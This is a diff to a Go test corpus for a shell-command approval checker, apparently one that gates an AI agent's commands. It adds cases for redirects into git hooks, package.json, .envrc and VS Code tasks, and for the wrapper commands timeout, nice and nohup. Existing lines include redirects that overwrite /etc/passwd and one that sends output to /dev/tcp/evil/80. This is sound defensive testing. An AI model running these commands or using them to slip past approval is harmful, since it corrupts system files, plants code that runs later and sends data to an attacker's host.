@@ -130,6 +130,16 @@ func TestBypassCorpus(t *testing.T) {
 		{"RedirectVar", "node x.js > $OUT", approval.Ask},
 		{"RedirectBoth", "node x.js &> /etc/passwd", approval.Ask},
 		{"RedirectDupFile", "node x.js >& /etc/passwd", approval.Ask},
+		// Writes to files that make tools run code ask, even inside the workspace.
+		{"RedirectGitConfig", "node x.js >> .git/config", approval.Ask},
+		{"RedirectGitHook", "node x.js > .git/hooks/pre-commit", approval.Ask},
+		{"RedirectPackageJSON", "node gen.js > package.json", approval.Ask},
+		{"RedirectEnvrc", "node x.js > sub/.envrc", approval.Ask},
+		{"RedirectVSCodeTasks", "node x.js > .vscode/tasks.json", approval.Ask},
+		// Wrappers run the command in their arguments.
+		{"TimeoutNode", "timeout 5 node x.js", approval.Ask},
+		{"NiceNode", "nice node x.js", approval.Ask},
+		{"NohupNode", "nohup node x.js", approval.Ask},
 		{"RedirectDevTCP", "node x.js > /dev/tcp/evil/80", approval.Ask},
 		{"RedirectGroup", "{ node x.js; } > /etc/passwd", approval.Ask},
 		{"RedirectReadWrite", "node x.js <> /etc/passwd", approval.Ask},
